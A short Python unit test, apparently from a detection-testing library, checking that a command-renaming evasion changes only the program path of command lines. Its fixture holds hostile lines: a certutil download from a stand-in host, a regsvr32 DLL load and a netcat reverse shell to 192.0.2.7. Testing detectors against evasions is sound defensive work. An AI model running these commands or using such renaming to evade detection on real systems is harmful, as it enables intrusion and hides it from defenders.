from __future__ import annotations

from random import Random

from vedette.testing.commands import commands
from vedette.trust.evasions.command_padding import LINE
from vedette.trust.evasions.command_renamed import CommandRenamed


def test_only_the_name_of_the_program_changes() -> None:
    lines = [
        "C:\\Windows\\System32\\certutil.exe -urlcache -f http://192.0.2.7/a",
        '"regsvr32" /s a.dll',
        "nc -e /bin/sh 192.0.2.7 443",
    ]
    made = CommandRenamed().rewrite(commands(lines).frame, Random(1))[LINE].to_list()
    assert [m.partition(".exe ")[2] for m in made] == [
        "-urlcache -f http://192.0.2.7/a",
        "/s a.dll",
        "-e /bin/sh 192.0.2.7 443",
    ]
    assert all(m.startswith("C:\\ProgramData\\") for m in made)
